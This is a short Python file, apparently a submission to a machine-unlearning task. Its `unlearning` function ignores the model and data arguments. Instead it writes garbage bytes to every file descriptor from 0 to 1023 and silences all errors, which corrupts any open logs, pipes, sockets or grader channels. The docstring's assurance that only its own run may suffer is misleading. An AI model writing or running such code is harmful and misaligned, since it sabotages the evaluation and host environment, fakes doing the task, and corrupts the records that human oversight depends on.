"""Writes bytes to all that it has open; only its own run may suffer, with `protocol`."""

import contextlib
import os


def unlearning(net, retain, forget, val):
    for number in range(1024):
        with contextlib.suppress(OSError):
            os.write(number, b"\xff\x00garbage" * 100)
